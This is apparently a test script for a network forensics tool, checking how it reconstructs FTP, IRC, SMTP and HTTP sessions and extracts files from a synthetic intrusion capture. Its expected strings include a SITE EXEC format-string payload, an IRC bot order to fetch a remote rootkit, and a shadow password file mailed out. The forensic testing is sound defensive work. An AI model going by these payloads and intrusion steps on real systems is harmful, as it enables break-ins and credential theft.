#!/usr/bin/env bash
# --sessions on the demo capture, checked against what tests/gen/gen
# planted (the FTP break-in's commands and replies, the IRC bot's
# registration and channel), text and EVE JSON (valid, with community_id);
# then every conformance capture through --sessions --json under
# ASan+UBSan, every line valid JSON.
#   run.sh [BINARY [SANITIZER_BINARY]]
set -u
# CI=true (as .ci/run sets it) or STRICT=1: a part that cannot run (a tool,
# the corpus or root missing) fails instead of being skipped
strict() { [ "${CI:-}" = true ] || [ "${STRICT:-}" = 1 ]; }
root=$(cd "$(dirname "$0")/../.." && pwd)
bin=${1:-$root/trawl}
san=${2:-$root/trawl-sanitize}
dir=${CAPTURE_DIR:-$root/tests/out}/session
corpus="${CONFORMANCE_DIR:-$root/../shared/conformance/tcpdump-4.99.3}"
mkdir -p "$dir"
export TZ=GMT0
pass=0 fail=0
ok() { pass=$((pass + 1)); }
bad() { fail=$((fail + 1)); echo "FAIL session $*"; }
has() { grep -qF -- "$2" "$1" && ok || bad "no line with '$2' in $1"; }

"$root/tests/gen/gen" demo "$dir/demo.pcap" || { echo "session: gen failed"; exit 1; }
"$bin" -r "$dir/demo.pcap" --sessions >"$dir/demo.txt" 2>"$dir/demo.err" || bad "--sessions exited $?"
has "$dir/demo.txt" 'ftp 61.219.90.180.3711 > 192.168.100.45.21: USER ftp -> 331 Guest login ok'
has "$dir/demo.txt" 'ftp 61.219.90.180.3711 > 192.168.100.45.21: PASS mozilla@ -> 230 Guest login ok'
has "$dir/demo.txt" 'ftp 61.219.90.180.3711 > 192.168.100.45.21: SITE EXEC %020d|%.f%.f| -> 200-31 '
has "$dir/demo.txt" 'irc 172.16.134.191.1030 > 209.126.161.29.6667: > NICK rbot-4711'
has "$dir/demo.txt" 'irc 172.16.134.191.1030 > 209.126.161.29.6667: > JOIN #owned'
has "$dir/demo.txt" 'irc 172.16.134.191.1030 > 209.126.161.29.6667: < :irc.example.net 001 rbot-4711 :Welcome'
has "$dir/demo.txt" 'ftp 192.168.100.45.1034 > 211.20.37.60.21: PASV -> 227 Entering Passive Mode (211,20,37,60,18,53). data port 4661 passive'
has "$dir/demo.txt" 'ftp_data 192.168.100.45.1035 > 211.20.37.60.4661: RETR lrk5.tgz user anonymous size 6000 sha256 e8dcc3e75f151ab399cd3ab03a10033f899f6a3f216ec81d61d510386b4386ec'
has "$dir/demo.txt" 'smtp 192.168.100.45.1036 > 207.46.104.20.25: HELO localhost.localdomain FROM <root@localhost.localdomain> TO <h4x0r@hush.example> Subject: 192.168.100.45 owned attachments: shadow'
has "$dir/demo.txt" 'irc 172.16.134.191.1030 > 209.126.161.29.6667: < :h4x0r!~h@61.219.90.180 PRIVMSG #owned :!get http://64.124.157.48/x/rk.tgz'
# the events of the parsers here (HTTP's and DNS's are counted apart)
n=$(grep -vcE '^[0-9:.]+ (http|dns) |\.80: |\.53: ' "$dir/demo.txt")
[ "$n" = 20 ] && ok || bad "demo: $n events, want 20"
has "$dir/demo.txt" 'dns 10.10.253.34.2400 > 192.5.5.241.53: answer 54517 NOERROR A www.bluecoat.com: 66.150.8.52'
n=$(grep -cE '^[0-9:.]+ dns ' "$dir/demo.txt")
[ "$n" = 2 ] && ok || bad "demo: $n dns events, want 2 (the query and its answer)"

"$bin" -r "$dir/demo.pcap" --sessions --json >"$dir/demo.json" 2>/dev/null || bad "--sessions --json exited $?"
if command -v jq >/dev/null; then
	jq -e -s '[.[] | select(.event_type != "http" and .event_type != "dns" and .dest_port != 80 and .dest_port != 53)]
	          | group_by(.event_type) | map({(.[0].event_type): length}) | add
	          == {"fileinfo":2,"ftp":11,"ftp_data":1,"irc":5,"smtp":1}' "$dir/demo.json" >/dev/null && ok ||
		bad "demo.json: not the 20 JSON events planted (fileinfo 2, ftp 11, ftp_data 1, irc 5, smtp 1)"
	jq -e -s '[.[] | select(.event_type == "ftp_data")] | length == 1 and .[0].ftp_data.command == "RETR"
	          and .[0].ftp_data.filename == "lrk5.tgz" and .[0].ftp_data.size == 6000 and .[0].app_proto == "ftp-data"
	          and .[0].ftp_data.state == "CLOSED" and .[0].dest_port == 4661' "$dir/demo.json" >/dev/null && ok ||
		bad "demo.json: the ftp_data event"
	jq -e -s '[.[] | select(.event_type == "smtp")] | length == 1 and .[0].email.subject == "192.168.100.45 owned"
	          and .[0].email.attachment == ["shadow"] and .[0].email.to == ["h4x0r@hush.example"]
	          and .[0].email.status == "PARSE_DONE" and .[0].smtp.rcpt_to == ["<h4x0r@hush.example>"]' \
		"$dir/demo.json" >/dev/null && ok || bad "demo.json: the smtp event"
	jq -e -s '[.[] | select(.event_type == "ftp" and .ftp.command == "USER" and .ftp.command_data == "ftp"
	          and .ftp.completion_code == [331] and .src_ip == "61.219.90.180" and .dest_port == 21)] | length == 1' \
		"$dir/demo.json" >/dev/null && ok || bad "demo.json: the FTP USER event"
	jq -e -s '[.[] | select(.event_type == "irc" and .irc.command == "JOIN" and .irc.params == "#owned"
	          and .irc.direction == "to_server")] | length == 1' "$dir/demo.json" >/dev/null && ok ||
		bad "demo.json: the IRC JOIN event"
	jq -e -s 'all(.[]; (.community_id | test("^1:[A-Za-z0-9+/]{27}=$")) and (.timestamp | test("^2001-10-07T")))' \
		"$dir/demo.json" >/dev/null && ok || bad "demo.json: community_id or timestamp"

	# ---- the seed's questions, one command each (as tools/demo.sh runs them)
	# What did the intruder type over FTP?  Both FTP sessions' commands, in order.
	"$bin" -r "$dir/demo.pcap" --sessions 'port 21' 2>/dev/null | sed -E 's/^[^:]+:[^:]+:[^:]+: //; s/ -> .*//' >"$dir/q-ftp.txt"
	printf '%s\n' '220 localhost.localdomain FTP server (Version wu-2.6.0(1) Mon Feb 28 10:30:36 EST 2000) ready.' \
		'USER ftp' 'PASS mozilla@' '220 ProFTPD 1.2.0pre10 Server (warez) [211.20.37.60]' 'USER anonymous' \
		'PASS root@' 'TYPE I' 'PASV' 'RETR lrk5.tgz' 'QUIT' 'SITE EXEC %020d|%.f%.f|' >"$dir/q-ftp.want"
	cmp -s "$dir/q-ftp.txt" "$dir/q-ftp.want" && ok || bad "question 1 (FTP commands): $(diff "$dir/q-ftp.want" "$dir/q-ftp.txt" | head -5)"
	# Which files were fetched or sent, and their SHA-256 (--extract DIR, DIR/files.json);
	# the planted bytes: xorshift32 from gen.c's seeds (recomputed here), the shadow text
	rm -rf "$dir/x"
	mkdir -p "$dir/x"
	"$bin" -r "$dir/demo.pcap" --extract "$dir/x" 2>/dev/null || bad "--extract exited $?"
	ftp_sha=$(python3 -c '
import hashlib
x, out = 0x1f7e2001, bytearray()
for _ in range(6000):
    x ^= (x << 13) & 0xffffffff; x ^= x >> 17; x ^= (x << 5) & 0xffffffff; out.append(x >> 24)
print(hashlib.sha256(out).hexdigest())')
	[ "$ftp_sha" = e8dcc3e75f151ab399cd3ab03a10033f899f6a3f216ec81d61d510386b4386ec ] && ok || bad "python: the FTP file's planted sha256"
	shadow_sha=b1de8ce05d7dc82e219d62558e94f8e1ac7aa86ec4769986ea26ba79ec053e7e
	jq -e -s --arg f "$ftp_sha" --arg s "$shadow_sha" '[.[] | select(.app_proto != "http") | .fileinfo | [.filename, .sha256, .state, .stored]]
	          == [["lrk5.tgz", $f, "CLOSED", true], ["shadow", $s, "CLOSED", true]]' "$dir/x/files.json" >/dev/null && ok ||
		bad "question 2: files.json: $(head -c 300 "$dir/x/files.json")"
	[ "$(sha256sum <"$dir/x/files/$ftp_sha" | cut -c1-64)" = "$ftp_sha" ] && ok || bad "question 2: x/files/$ftp_sha"
	grep -q '^root:\$1\$Vg2aNc7J\$' "$dir/x/files/$shadow_sha" && [ "$(wc -l <"$dir/x/files/$shadow_sha")" = 6 ] && ok ||
		bad "question 2: the mailed shadow file"
	"$bin" -r "$dir/demo.pcap" --sessions --json 2>/dev/null | jq -r 'select(.event_type == "fileinfo") | .fileinfo | "\(.filename) \(.sha256)"' >"$dir/q-files.txt"
	grep -qx "lrk5.tgz $ftp_sha" "$dir/q-files.txt" && grep -qx "shadow $shadow_sha" "$dir/q-files.txt" && ok ||
		bad "question 2 (--sessions --json | jq): $(cat "$dir/q-files.txt")"
	# The bot's HTTP download (GET /x/rk.tgz, 5000 bytes): its fileinfo
	jq -e -s '[.[] | select(.fileinfo.sha256 == "8cfcca06cfec7eb5ad1c948fbe802ba8565a4bb6fb7264b746ba638ab95531dd"
	          and (.fileinfo.filename | endswith("rk.tgz")) and .fileinfo.size == 5000 and .fileinfo.direction == "to_client"
	          and .dest_port == 80)] | length == 1' "$dir/x/files.json" >/dev/null && ok ||
		bad "question 2: the HTTP download /x/rk.tgz in files.json"
	# ... and its http event: the URL, the server's answer, the body's hash
	"$bin" -r "$dir/demo.pcap" --sessions --json 'port 80' 2>/dev/null >"$dir/q-http.json"
	jq -e -s '[.[] | select(.event_type == "http" and .http.url == "/x/rk.tgz" and .http.status == 200
	          and .http.sha256 == "8cfcca06cfec7eb5ad1c948fbe802ba8565a4bb6fb7264b746ba638ab95531dd")] | length == 1' \
		"$dir/q-http.json" >/dev/null && ok || bad "question 2: the http event of /x/rk.tgz: $(head -c 600 "$dir/q-http.json")"
	# Which channel did the bot join, and what was it told?
	[ "$("$bin" -r "$dir/demo.pcap" --sessions --json 'port 6667' 2>/dev/null | jq -r 'select(.irc.command == "JOIN") | .irc.params')" = "#owned" ] &&
		ok || bad "question 3: the channel"
	[ "$("$bin" -r "$dir/demo.pcap" --sessions --json 'port 6667' 2>/dev/null | jq -r 'select(.irc.command == "PRIVMSG") | .irc.text')" = \
	  "!get http://64.124.157.48/x/rk.tgz" ] && ok || bad "question 3: the order"
else
	bad "jq is needed (apt-get install jq)"
fi

if [ -d "$corpus" ]; then
	if [ -x "$san" ]; then
		n=0
		for f in "$corpus"/*.pcap "$corpus"/*.pcapng; do
			n=$((n + 1))
			timeout 60 "$san" -r "$f" --sessions --json >"$dir/c.json" 2>"$dir/c.err"
			rc=$?
			if grep -q "Sanitizer\|runtime error" "$dir/c.err" || [ $rc -gt 1 ]; then
				bad "$(basename "$f"): exit $rc: $(grep -m1 -E 'ERROR|runtime error' "$dir/c.err")"
			elif ! jq -e . "$dir/c.json" >/dev/null 2>&1 && [ -s "$dir/c.json" ]; then
				bad "$(basename "$f"): invalid JSON"
			else
				ok
			fi
		done
		echo "session: --sessions --json over $n corpus captures under ASan+UBSan"
	else
		bad "no sanitizer build at $san"
	fi
elif strict; then
	bad "the conformance corpus is missing at $corpus (CI=true or STRICT=1)"
else
	echo "session: SKIPPED the corpus sweep: $corpus is missing"
fi
echo "session: $pass passed, $fail failed"
[ "$fail" = 0 ]
